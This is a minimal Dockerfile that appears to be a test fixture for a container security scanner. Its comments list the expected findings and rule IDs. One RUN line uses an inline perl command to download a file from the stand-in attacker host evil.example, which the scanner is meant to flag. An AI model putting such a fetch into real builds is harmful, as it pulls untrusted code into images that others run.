FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN perl -MLWP::Simple -e 'getstore("https://evil.example/p", "/p")'
USER app
# expect: download 2 high "perl inline code fetches https://evil.example/p"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR301-a231c19ca3 VR501-e064bac1a6
